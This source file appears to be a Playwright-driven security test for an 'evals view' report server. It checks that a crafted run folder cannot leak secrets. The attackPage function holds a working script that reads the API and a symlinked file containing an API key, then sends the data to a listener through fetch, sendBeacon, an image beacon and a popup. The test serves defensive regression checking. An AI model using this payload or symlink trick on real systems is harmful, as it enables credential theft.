/**
 * The crafted-folder attack in a real browser: a run folder whose report.html reads the view's API and a linked
 * summary.json (→ a secret outside the reports folder) and sends what it read to a listener. Against `evals view`
 * the listener hears nothing; against the same folder served the way the view once served it (same origin, no
 * policy, links followed), it hears the secret, so the test can see the attack succeed.
 */
import { readFileSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { startView, type ViewServer } from '../../src/view/server.ts'
import { launchChromium, NO_CHROMIUM } from '../reporters/browser.ts'
import { tempDir } from '../runner/helpers.ts'
import { runInto } from './runs.ts'

const SECRET = 'view-process-secret-4242'

/** The attack: read everything reachable, then send it out every way a page can. */
function attackPage(listener: string): string {
  return `<!doctype html><title>report</title><script>
(async () => {
  const grab = async (url) => { try { return await (await fetch(url)).text() } catch (e) { return 'blocked: ' + e } }
  const loot = [await grab('/api/runs'), await grab('/runs/0/evil/summary.json')].join('\\n')
  try { await fetch('${listener}/fetch', { method: 'POST', mode: 'no-cors', body: loot }) } catch {}
  try { navigator.sendBeacon('${listener}/beacon', loot) } catch {}
  new Image().src = '${listener}/img?d=' + encodeURIComponent(loot.slice(0, 1500))
  try { const w = window.open('${listener}/popup?d=' + encodeURIComponent(loot.slice(0, 1500))) } catch {}
  document.title = 'attack ran: ' + (loot.includes('${SECRET}') ? 'read the secret' : 'read nothing')
})()
</script>`
}

describe.skipIf(NO_CHROMIUM !== undefined)('a crafted run folder in Chromium', () => {
  let browser: Browser
  let view: ViewServer
  let listener: Server
  let unguarded: Server
  let listenerUrl = ''
  let reports = ''
  const heard: string[] = []

  const listen = (server: Server): Promise<string> =>
    new Promise((ready) =>
      server.listen(0, '127.0.0.1', () => {
        ready(`http://127.0.0.1:${String((server.address() as AddressInfo).port)}`)
      }),
    )

  beforeAll(async () => {
    listener = createServer((req, res) => {
      let body = ''
      req.on('data', (chunk: Buffer) => (body += chunk.toString()))
      req.on('end', () => {
        heard.push(`${req.url ?? ''} ${body}`)
        res.end()
      })
    })
    listenerUrl = await listen(listener)
    const outside = tempDir()
    writeFileSync(join(outside, 'environ'), `{"OPENAI_API_KEY":"${SECRET}"}`)
    reports = join(outside, 'reports')
    mkdirSync(join(reports, 'evil'), { recursive: true })
    await runInto(reports, 'run-1')
    writeFileSync(join(reports, 'evil', 'report.html'), attackPage(listenerUrl))
    symlinkSync(join(outside, 'environ'), join(reports, 'evil', 'summary.json'))
    view = await startView({ roots: [reports] })
    // the positive control: the folder served as before, the same origin for the API and the reports, links followed
    unguarded = createServer((req, res) => {
      const file = /^\/runs\/0\/(\w+)\/([\w.]+)$/.exec(req.url ?? '')
      if (req.url === '/api/runs') res.end(JSON.stringify({ roots: [reports] }))
      else if (file) res.end(readFileSync(join(reports, file[1] ?? '', file[2] ?? '')))
      else res.writeHead(404).end()
    })
    await listen(unguarded)
    browser = await launchChromium()
  }, 60_000)

  afterAll(async () => {
    await browser.close()
    await view.close()
    listener.close()
    unguarded.close()
  })

  async function openReport(base: string): Promise<string> {
    const page = await browser.newPage()
    await page.goto(`${base}/runs/0/evil/report.html`)
    await page.waitForFunction("document.title.startsWith('attack ran')", undefined, { timeout: 15_000 })
    // give the beacons time to land
    await new Promise((resolve) => setTimeout(resolve, 500))
    const title = await page.title()
    await page.close()
    return title
  }

  test('served as the view once served it, the attack reads the secret and the listener hears it', async () => {
    heard.length = 0
    const base = `http://127.0.0.1:${String((unguarded.address() as AddressInfo).port)}`
    expect(await openReport(base)).toBe('attack ran: read the secret')
    expect(heard.some((line) => line.includes(SECRET))).toBe(true)
  }, 30_000)

  test('served by evals view, the report’s script runs but reads nothing and sends nothing', async () => {
    heard.length = 0
    expect(await openReport(view.url.replace(/\/$/, ''))).toBe('attack ran: read nothing')
    expect(heard).toEqual([])
  }, 30_000)

  test('a real report still works in the sandbox: its script runs and draws the table', async () => {
    const page = await browser.newPage()
    const errors: string[] = []
    page.on('pageerror', (error) => errors.push(error.message))
    await page.goto(`${view.url}runs/0/run-1/report.html`)
    await page.waitForSelector('body[data-ready="1"]', { timeout: 15_000 })
    expect(await page.locator('#shown').textContent()).toBe('4 of 4 case runs')
    expect(errors).toEqual([])
    await page.close()
  }, 30_000)
})
